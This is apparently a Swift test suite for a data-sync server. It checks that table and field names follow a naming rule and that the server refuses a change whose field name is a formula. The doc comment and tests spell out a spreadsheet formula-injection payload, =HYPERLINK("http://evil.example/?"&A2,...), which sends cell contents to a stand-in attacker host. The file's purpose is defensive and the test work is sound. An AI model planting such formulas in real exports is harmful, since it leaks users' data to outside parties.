import Foundation
import Testing
import GSPCore
import GSPServer
import GSPTestSupport

/// Found by a breaker: a column headed =HYPERLINK("http://evil.example/?"&A2,"click") in an
/// edited export was imported as a field, synced, and came out in every manager's export header
/// as a formula (cells are guarded with an apostrophe, headers were not). Table and field names
/// follow one rule everywhere: the server refuses other names, and so do the replica and import.
@Suite("Table and field names")
struct FieldNameRuleTests {
    @Test func theNameRule() {
        for good in ["deals", "next_step", "poc_device", "gadgets", "a", "x9_"] { #expect(Schema.isValidName(good), "\(good)") }
        for bad in ["", "Deals", "9lives", "_x", "next-step", "=HYPERLINK(\"http://e\")", "a b", "é", "x\u{0}", String(repeating: "a", count: 65)] {
            #expect(!Schema.isValidName(bad), "\(bad)")
        }
    }

    @Test(arguments: StoreBackend.available) func theServerRefusesAChangeWithAnotherName(_ backend: StoreBackend) throws {
        let fixture = try StoreFixture(backend)
        var w = Writer()
        let deal = RowID()
        let formula = w.change("deals", deal, "=HYPERLINK(\"http://evil.example/\")", .text("click"))
        let outcome = try fixture.store.push(w.deal(deal, owner: "alice") + [formula], as: manager, node: w.node)
        #expect(outcome.accepted == 2)
        #expect(outcome.refusals.map(\.seq) == [formula.seq])
        #expect(outcome.refusals.first?.reason.contains("is not a name") == true, "\(outcome.refusals)")
        #expect(try fixture.store.pullAll(user: manager).changes.allSatisfy { Schema.isValidName($0.field) })
    }
}
